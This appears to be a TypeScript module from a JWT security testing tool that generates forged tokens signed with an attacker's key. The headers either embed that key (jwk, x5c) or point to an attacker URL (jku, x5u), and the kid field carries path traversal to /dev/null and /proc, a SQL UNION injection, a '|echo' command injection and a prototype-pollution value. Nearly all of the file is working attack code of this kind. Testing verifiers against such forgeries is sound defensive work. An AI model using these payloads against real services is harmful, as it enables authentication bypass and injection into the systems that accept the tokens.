import { generateKeyPairSync } from 'node:crypto'
import { exportJWK } from 'jose'
import { type Attack, type Claims, forged, header } from '../forged.ts'

/**
 * Tokens signed with a key of the attacker, which their headers bring along or point to.
 * @param url where the attacker waits to be asked for the key.
 */
export async function broughtKeys(claims: Claims, url: string): Promise<Attack[]> {
  const key = attackersKey
  const k = Buffer.from(key).toString('base64url')
  const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 })
  const jwk = await exportJWK(rsa.publicKey)
  const attempts: [what: string, header: object, key: string | Buffer][] = [
    ['jwk', { jwk: { kty: 'oct', k } }, key],
    ['jwk of RSA', { alg: 'RS256', jwk }, key],
    ['jku', { jku: `${url}/keys.json`, kid: '1' }, key],
    ['x5u', { x5u: `${url}/cert.pem` }, key],
    ['x5c', { x5c: [k] }, key],
    ['kid of an empty file', { kid: '../../../../../../dev/null' }, ''],
    ['kid of a file', { kid: '/proc/sys/kernel/ostype' }, 'Linux\n'],
    ['kid with SQL', { kid: "x' UNION SELECT 'key' -- " }, 'key'],
    ['kid with a command', { kid: '|echo key' }, 'key\n'],
    ['kid of an object', { kid: { toString: 'key' } }, key],
    ['kid of the prototype', { kid: '__proto__' }, '[object Object]'],
  ]
  return attempts.map(([what, changed, by]) => [what, forged({ ...header, ...changed }, claims, by)])
}

export const attackersKey = 'a key of the attacker, long enough for HS256'
